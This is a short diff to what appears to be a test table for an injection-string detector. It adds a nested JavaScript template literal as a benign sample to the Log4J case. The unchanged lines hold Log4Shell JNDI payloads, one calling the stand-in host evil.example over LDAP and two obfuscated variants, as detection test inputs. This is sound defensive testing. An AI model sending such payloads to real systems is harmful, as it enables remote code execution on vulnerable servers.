@@ -38,7 +38,9 @@ CASES: tuple[Case, ...] = (
     Case(
         "Log4JRCE",
         ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "${${::-j}${::-n}di:rmi://x/a}"),
-        ("${HOME} is set", "price: $ {100}", "jndi is a Java API"),
+        ("${HOME} is set", "price: $ {100}", "jndi is a Java API",
+         # a JavaScript template literal nested in another's expression
+         "msg = `Logged in${opts.scope ? ` to scope ${opts.scope}` : ''} on ${reg}.`"),
     ),
     Case(
         "TemplateInjection",
